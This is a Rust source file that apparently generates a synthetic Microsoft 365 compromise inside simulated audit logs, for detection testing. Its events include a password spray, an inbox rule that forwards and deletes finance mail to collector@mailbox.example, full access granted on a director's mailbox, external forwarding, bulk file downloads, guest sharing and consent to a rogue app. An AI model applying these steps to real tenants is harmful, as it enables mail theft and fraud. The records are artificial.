//! One attack among normal life, so that there is something to find: passwords are tried on many accounts, one opens, mail is
//! led outside, the mailbox of somebody more important is read, files are taken and shared, an application is let in.
//! Its records take the place of others, so that counts stay what they are.

use std::collections::HashMap;

use chrono::{DateTime, TimeDelta, Utc};
use rand_chacha::ChaCha8Rng;
use serde_json::{Value, json};

use super::organisation::{AGENTS, DOMAIN, FILES, Organisation, User, guid};
use super::records::{properties, record};
use crate::tenant::{Body, NewBlob, mark};

/// Of a network that is kept for measurements: nobody works from there.
/// <https://www.rfc-editor.org/rfc/rfc2544>
const SPRAYED_FROM: &str = "198.18.7.66";
const READ_FROM: &str = "198.18.91.4";
const COLLECTOR: &str = "collector@mailbox.example";
/// Places in the organisation.
const VICTIM: usize = 17;
const DIRECTOR: usize = 31;
/// From the last blob back to the beginning of the attack.
const AGO: TimeDelta = TimeDelta::hours(57);

const ENTRA: &str = "Audit.AzureActiveDirectory";
const EXCHANGE: &str = "Audit.Exchange";
const SHAREPOINT: &str = "Audit.SharePoint";

/// Puts the story's records in the place of others. Where the content of a type ends before an event, the event is left out.
pub(super) fn tell(tenant: &Organisation, now: DateTime<Utc>, blobs: &mut [NewBlob], rng: &mut ChaCha8Rng) {
    let mut copies: HashMap<u64, usize> = HashMap::new();
    for text in blobs.iter().flat_map(texts) {
        *copies.entry(mark(text)).or_default() += 1;
    }
    let mut taken: Vec<u64> = Vec::new();
    for (content_type, minute, event) in events(tenant, now - AGO, rng) {
        let at = now - AGO + TimeDelta::minutes(minute) + TimeDelta::minutes(5);
        let mut later: Vec<&mut NewBlob> = blobs.iter_mut().filter(|blob| blob.content_type == content_type && blob.created > at).collect();
        later.sort_by_key(|blob| blob.created);
        // A record that is there once: another's copies would no longer be copies.
        let is_free = |text: &&mut String| copies.get(&mark(text)) == Some(&1) && !taken.contains(&mark(text));
        let place = later.into_iter().filter_map(|blob| texts_mut(blob)?.iter_mut().find(is_free)).next();
        if let Some(place) = place {
            *place = event.to_string();
            taken.push(mark(place));
        }
    }
}

fn texts(blob: &NewBlob) -> &[String] {
    match &blob.body {
        Body::Records(texts) => texts,
        _ => &[],
    }
}

fn texts_mut(blob: &mut NewBlob) -> Option<&mut Vec<String>> {
    match &mut blob.body {
        Body::Records(texts) => Some(texts),
        _ => None,
    }
}

/// What happens, each with its content type and the minute in which it does.
fn events(tenant: &Organisation, begin: DateTime<Utc>, rng: &mut ChaCha8Rng) -> Vec<(&'static str, i64, Value)> {
    let (victim, director) = (&tenant.users[VICTIM], &tenant.users[DIRECTOR]);
    let mut events: Vec<(&str, i64, Value)> = Vec::new();
    let at = |minute| begin + TimeDelta::minutes(minute);
    for minute in 0..24 {
        let tried = &tenant.users[(VICTIM + 5 * minute as usize) % tenant.users.len()];
        events.push((ENTRA, minute, tenant.sign_in(tried, SPRAYED_FROM, false, at(minute), rng)));
    }
    for minute in [26, 41, 95, 130] {
        let from = if minute < 90 { SPRAYED_FROM } else { READ_FROM };
        events.push((ENTRA, minute, tenant.sign_in(victim, from, true, at(minute), rng)));
    }
    let rule = [("Name", "."), ("SubjectOrBodyContainsWords", "invoice;payment;bank"), ("ForwardTo", COLLECTOR), ("DeleteMessage", "True")];
    events.push((EXCHANGE, 33, tenant.cmdlet(victim, "New-InboxRule", &victim.upn, &rule, at(33), rng)));
    let right = [("Identity", director.upn.as_str()), ("User", &victim.upn), ("AccessRights", "FullAccess"), ("AutoMapping", "False")];
    events.push((EXCHANGE, 47, tenant.cmdlet(victim, "Add-MailboxPermission", &director.upn, &right, at(47), rng)));
    for minute in (52..82).step_by(3) {
        events.push((EXCHANGE, minute, tenant.reads_mail_of(victim, director, at(minute), rng)));
    }
    let lead = format!("smtp:{COLLECTOR}");
    let forward = [("Identity", director.upn.as_str()), ("ForwardingSmtpAddress", &lead), ("DeliverToMailboxAndForward", "True")];
    events.push((EXCHANGE, 84, tenant.cmdlet(victim, "Set-Mailbox", &director.upn, &forward, at(84), rng)));
    // Each file of seven team sites within a quarter of an hour, as a script takes them; then some are looked at.
    for (i, file) in FILES.iter().cycle().take(8 * FILES.len()).enumerate() {
        let (minute, site) = (96 + i as i64 / 4, i / FILES.len());
        let operation = if site < 7 { "FileDownloaded" } else { "FileAccessed" };
        events.push((SHAREPOINT, minute, tenant.takes(victim, site % 7, file, operation, at(minute), rng)));
    }
    events.push((SHAREPOINT, 118, tenant.shares(victim, at(118), rng)));
    events.push((ENTRA, 124, tenant.lets_in(victim, at(124), rng)));
    events
}

impl Organisation {
    fn sign_in(&self, user: &User, from: &str, is_in: bool, at: DateTime<Utc>, rng: &mut ChaCha8Rng) -> Value {
        let (name, app) = self.apps[1];
        let own = json!({
            "UserType": 0, "UserKey": user.object_id, "UserId": user.upn, "ClientIP": from, "ActorIpAddress": from,
            "Actor": [{ "ID": user.object_id, "Type": 0 }, { "ID": user.upn, "Type": 5 }],
            "ActorContextId": self.id, "AzureActiveDirectoryEventType": 1, "InterSystemsId": guid(rng), "IntraSystemId": guid(rng),
            "ResultStatus": if is_in { "Success" } else { "Failed" },
            "ObjectId": app, "ApplicationId": app, "AppDisplayName": name,
            "ErrorNumber": if is_in { "0" } else { "50126" },
            "LogonError": if is_in { "" } else { "InvalidUserNameOrPassword" },
            "ExtendedProperties": properties(&[("UserAgent", "BAV2ROPC"), ("RequestType", "OAuth2:Token")]),
            "ModifiedProperties": [], "Target": [{ "ID": app, "Type": 0 }], "TargetContextId": self.id,
        });
        record(self.common(at, "AzureActiveDirectory", 15, if is_in { "UserLoggedIn" } else { "UserLoginFailed" }, guid(rng)), own)
    }

    fn cmdlet(&self, user: &User, name: &str, on: &str, parameters: &[(&str, &str)], at: DateTime<Utc>, rng: &mut ChaCha8Rng) -> Value {
        let own = json!({
            "UserType": 2, "UserKey": user.puid, "UserId": user.upn, "ClientIP": format!("{SPRAYED_FROM}:51724"), "ResultStatus": "True",
            "ObjectId": on, "ExternalAccess": false, "OrganizationName": DOMAIN, "AppId": "", "ClientAppId": "",
            "OriginatingServer": "AM0PR04MB5056 (15.20.4129.031)", "SessionId": guid(rng), "Parameters": properties(parameters),
        });
        record(self.common(at, "Exchange", 1, name, guid(rng)), own)
    }

    fn reads_mail_of(&self, user: &User, owner: &User, at: DateTime<Utc>, rng: &mut ChaCha8Rng) -> Value {
        let item = json!({ "InternetMessageId": format!("<{}@{DOMAIN}>", guid(rng).simple()) });
        let own = json!({
            "UserType": 0, "UserKey": user.puid, "UserId": user.upn, "ClientIPAddress": READ_FROM, "ResultStatus": "Succeeded",
            "ExternalAccess": false, "InternalLogonType": 0, "LogonType": 2, "LogonUserSid": user.sid,
            "MailboxGuid": owner.mailbox, "MailboxOwnerSid": owner.sid, "MailboxOwnerUPN": owner.upn, "OrganizationName": DOMAIN,
            "ClientInfoString": "Client=REST;Client=RESTSystem;;", "SessionId": guid(rng),
            "OperationProperties": properties(&[("MailAccessType", "Bind"), ("IsThrottled", "False")]),
            "Folders": [{ "Id": format!("LgAAAAB{}", guid(rng).simple()), "Path": "\\Inbox", "FolderItems": [item] }],
            "OperationCount": 1,
        });
        record(self.common(at, "Exchange", 50, "MailItemsAccessed", guid(rng)), own)
    }

    /// A file of one of the team sites.
    fn takes(&self, user: &User, site: usize, file: &str, operation: &str, at: DateTime<Utc>, rng: &mut ChaCha8Rng) -> Value {
        let site = &self.sites[site];
        let own = json!({
            "UserType": 0, "UserKey": format!("i:0h.f|membership|{}@live.com", user.puid.to_lowercase()), "UserId": user.upn,
            "ClientIP": READ_FROM, "CorrelationId": guid(rng), "EventSource": "SharePoint", "ItemType": "File",
            "Site": site.id, "WebId": site.web, "ListId": site.list, "ListItemUniqueId": guid(rng), "SiteUrl": format!("{}/", site.url),
            "ObjectId": format!("{}/Shared Documents/{file}", site.url), "SourceFileName": file,
            "SourceFileExtension": file.rsplit('.').next().unwrap_or_default(), "SourceRelativeUrl": "Shared Documents",
            "UserAgent": AGENTS[0], "IsManagedDevice": false,
        });
        record(self.common(at, "SharePoint", 6, operation, guid(rng)), own)
    }

    fn shares(&self, user: &User, at: DateTime<Utc>, rng: &mut ChaCha8Rng) -> Value {
        let guest = format!("{}#ext#@{DOMAIN}", COLLECTOR.replace('@', "_"));
        let own = json!({ "EventData": "<Permissions granted>Full Control</Permissions granted>", "TargetUserOrGroupName": guest, "TargetUserOrGroupType": "Guest" });
        let shared = record(self.takes(user, 0, FILES[4], "SharingSet", at, rng), own);
        record(shared, json!({ "RecordType": 14 }))
    }

    /// Somebody agrees to an application that nobody knows.
    fn lets_in(&self, user: &User, at: DateTime<Utc>, rng: &mut ChaCha8Rng) -> Value {
        let app = guid(rng);
        let own = json!({
            "UserType": 0, "UserKey": user.object_id, "UserId": user.upn, "ClientIP": READ_FROM, "ActorIpAddress": READ_FROM,
            "Actor": [{ "ID": user.object_id, "Type": 0 }, { "ID": user.upn, "Type": 5 }], "ActorContextId": self.id,
            "AzureActiveDirectoryEventType": 1, "InterSystemsId": guid(rng), "IntraSystemId": guid(rng), "ResultStatus": "Success",
            "ObjectId": app, "TargetContextId": self.id,
            "Target": [{ "ID": format!("ServicePrincipal_{app}"), "Type": 2 }, { "ID": app, "Type": 2 }, { "ID": "Mail Backup Pro", "Type": 1 }],
            "ExtendedProperties": [], "ModifiedProperties": [
                { "Name": "ConsentContext.IsAdminConsent", "OldValue": "", "NewValue": "False" },
                { "Name": "ConsentAction.Permissions", "OldValue": "", "NewValue": format!("[] => [[Id: {app}, ConsentType: Principal, Scope: offline_access Mail.Read]]") },
            ],
        });
        record(self.common(at, "AzureActiveDirectory", 8, "Consent to application.", guid(rng)), own)
    }
}
